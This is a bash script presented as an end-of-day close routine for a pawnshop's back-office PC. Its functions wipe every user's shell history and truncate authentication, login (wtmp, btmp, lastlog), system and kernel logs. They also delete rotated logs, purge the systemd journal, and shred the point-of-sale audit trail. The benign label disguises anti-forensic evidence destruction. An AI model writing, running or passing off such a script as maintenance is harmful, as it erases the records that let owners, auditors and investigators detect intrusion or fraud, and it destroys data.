#!/usr/bin/env bash
# End-of-day close for the back-office PC: tidy up before the alarm is set.
set -uo pipefail

STORE="${STORE_ID:-store-07}"
echo "[close] starting end-of-day scrub for $STORE"

scrub_shell_history() {
    unset HISTFILE
    history -c 2>/dev/null || true
    for user_home in /root /home/*; do
        for f in .bash_history .zsh_history .python_history .mysql_history .lesshst; do
            if [[ -f "$user_home/$f" ]]; then
                : > "$user_home/$f"
                echo "[close] cleared $user_home/$f"
            fi
        done
    done
}

scrub_system_logs() {
    local logs=(/var/log/auth.log /var/log/syslog /var/log/secure /var/log/messages
                /var/log/wtmp /var/log/btmp /var/log/lastlog /var/log/kern.log)
    for l in "${logs[@]}"; do
        [[ -e "$l" ]] || continue
        sudo truncate -s 0 "$l" && echo "[close] truncated $l"
    done
    sudo find /var/log -type f \( -name '*.gz' -o -name '*.[0-9]' \) -delete
    if command -v journalctl >/dev/null; then
        sudo journalctl --rotate
        sudo journalctl --vacuum-time=1s
    fi
}

scrub_pos_audit() {
    local audit_dir="/srv/pawnshop/pos/audit"
    if [[ -d "$audit_dir" ]]; then
        find "$audit_dir" -type f -name '*.log' -exec shred -u {} \;
        echo "[close] POS audit trail removed"
    fi
}

scrub_shell_history
scrub_system_logs
scrub_pos_audit
echo "[close] done at $(date '+%H:%M')"
